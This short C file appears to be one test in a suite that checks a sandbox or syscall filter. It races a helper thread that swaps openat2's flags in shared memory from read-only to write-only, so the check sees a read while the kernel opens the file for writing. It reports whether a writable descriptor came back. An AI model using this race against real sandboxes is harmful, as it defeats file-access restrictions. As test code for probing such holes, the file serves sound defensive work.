// Changes the flags in memory while openat2 reads them: judged as reading, opened for writing.

#include "attack.h"

#include <linux/openat2.h>

static struct open_how reading = {.flags = O_RDONLY}, writing = {.flags = O_WRONLY};

int main(void) {
  struct flip flip = {.buffer = shared_page(), .one = &reading, .other = &writing, .length = sizeof reading};
  start_flip(&flip);
  const char *path = READONLY("file");
  for (int index = 0; index < TRIES; index++) {
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, flip.buffer, sizeof reading);
    if (fd < 0) continue;
    if ((fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) won("a writable descriptor came, after %d tries", index + 1);
    close(fd);
  }
  blocked("0 of %d opens gave a writable descriptor", TRIES);
}
